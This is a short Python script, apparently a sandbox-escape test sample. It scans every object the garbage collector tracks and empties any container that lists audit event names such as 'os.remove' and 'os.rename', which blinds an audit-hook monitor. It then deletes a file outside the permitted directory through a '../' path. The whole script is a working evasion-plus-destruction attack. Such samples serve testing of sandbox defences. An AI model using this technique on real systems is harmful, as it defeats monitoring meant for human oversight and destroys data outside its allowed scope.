# Containers that know the name of an audit event are emptied.
# damage: deleted
import gc
import os

for table in gc.get_objects():
    if isinstance(table, (dict, set, list)) and table is not globals():
        try:
            if "os.remove" in table or "open" in table and "os.rename" in table:
                table.clear()
        except Exception:
            pass
os.unlink("../outside/victim.txt")
